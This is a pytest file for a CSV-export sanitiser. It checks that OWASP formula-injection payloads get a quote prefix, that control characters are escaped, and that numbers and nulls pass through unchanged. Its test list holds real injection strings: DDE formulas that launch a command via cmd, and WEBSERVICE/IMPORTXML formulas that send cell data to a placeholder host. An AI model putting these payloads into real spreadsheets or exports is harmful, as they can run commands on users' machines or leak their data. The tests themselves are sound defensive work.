"""safe_csv: the OWASP CSV-injection payloads are neutralised, numbers and nulls are untouched."""

import csv
from decimal import Decimal as D

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.lib.safe_csv import neutralise, neutralised, write_csv

# OWASP "CSV Injection" (formula prefixes = + - @, tab 0x09, CR 0x0D) and the classic DDE payloads
OWASP_PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://x/?",A2),"//a")',
    '=WEBSERVICE("http://x/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "\rplain",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_formula_prefixes_get_a_quote(payload):
    assert neutralise(payload) == "'" + payload


def test_control_characters_are_escaped_and_plain_text_is_kept():
    assert neutralise("a\x00b\x07c\x1bd\x7fe\x85") == "a\\x00b\\x07c\\x1bd\\x7fe\\x85"
    assert neutralise("\x00=1+1") == "\\x00=1+1"  # escaped first byte: no formula either
    assert neutralise("Northwind Traders EU") == "Northwind Traders EU"
    assert neutralise("multi\nline") == "multi\nline"  # newlines are quoted by the CSV writer
    assert neutralise(None) is None and neutralise("") == ""


def test_write_csv_neutralises_text_and_leaves_numbers_and_nulls(tmp_path):
    frame = pl.DataFrame(
        {
            "tenant_id": OWASP_PAYLOADS,
            "amount": [D("-1.50")] * len(OWASP_PAYLOADS),
            "tokens": list(range(-3, len(OWASP_PAYLOADS) - 3)),
            "note": [None] * len(OWASP_PAYLOADS),
        },
        schema={
            "tenant_id": pl.String(),
            "amount": pl.Decimal(38, 2),
            "tokens": pl.Int64(),
            "note": pl.String(),
        },
    )
    path = tmp_path / "x.csv"
    write_csv(frame, path)
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["tenant_id"] for r in rows] == ["'" + p for p in OWASP_PAYLOADS]
    assert {r["amount"] for r in rows} == {"-1.50"}  # a negative number is not text
    assert rows[0]["tokens"] == "-3"
    assert {r["note"] for r in rows} == {""}  # null stays an empty cell
    assert frame["tenant_id"].to_list() == OWASP_PAYLOADS  # the frame itself is untouched


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), min_size=1, max_size=20))
def test_the_vectorised_frame_path_equals_neutralise(values):
    frame = pl.DataFrame({"text": values}, schema={"text": pl.String()})
    assert neutralised(frame)["text"].to_list() == [neutralise(v) for v in values]
